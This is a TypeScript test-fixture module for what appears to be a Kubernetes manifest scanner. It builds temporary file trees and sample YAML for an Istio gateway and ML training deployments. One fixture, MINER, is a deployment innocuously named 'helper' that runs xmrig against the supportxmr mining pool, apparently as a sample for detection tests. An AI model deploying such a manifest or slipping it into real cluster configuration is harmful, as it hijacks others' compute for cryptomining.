import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';

/** Writes files (path -> text) under a new temporary directory and returns it. */
export function writeTree(files: Readonly<Record<string, string>>, prefix = 'kfscan-tree-'): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), prefix));
  for (const [name, text] of Object.entries(files)) {
    const file = path.join(dir, name);
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, text);
  }
  return dir;
}

/** Kubernetes YAML documents joined into one file. */
export function docs(...documents: string[]): string {
  return documents.map((document) => document.trim()).join('\n---\n') + '\n';
}

export const gatewayDeployment = `
apiVersion: apps/v1
kind: Deployment
metadata: {name: istio-ingressgateway, namespace: istio-system}
spec:
  selector: {matchLabels: {istio: ingressgateway}}
  template:
    metadata: {labels: {istio: ingressgateway, app: istio-ingressgateway}}
    spec:
      containers:
        - name: istio-proxy
          image: docker.io/istio/proxyv2:1.22.1
`;

export function gatewayService(extra = ''): string {
  return `
apiVersion: v1
kind: Service
metadata: {name: istio-ingressgateway, namespace: istio-system${extra}}
spec:
  type: ClusterIP
  selector: {istio: ingressgateway}
  ports: [{name: http2, port: 80, targetPort: 8080}]
`;
}

export function trainer(name: string, image: string, namespace = 'ml'): string {
  return `
apiVersion: apps/v1
kind: Deployment
metadata: {name: ${name}, namespace: ${namespace}}
spec:
  selector: {matchLabels: {app: ${name}}}
  template:
    metadata: {labels: {app: ${name}}}
    spec:
      containers:
        - name: main
          image: ${image}
`;
}

export const MINER = `
apiVersion: apps/v1
kind: Deployment
metadata: {name: helper, namespace: ml}
spec:
  selector: {matchLabels: {app: helper}}
  template:
    metadata: {labels: {app: helper}}
    spec:
      containers:
        - name: helper
          image: docker.io/library/alpine:3.20
          command: [xmrig, --url, stratum+tcp://pool.supportxmr.com:3333, --donate-level, "1"]
`;
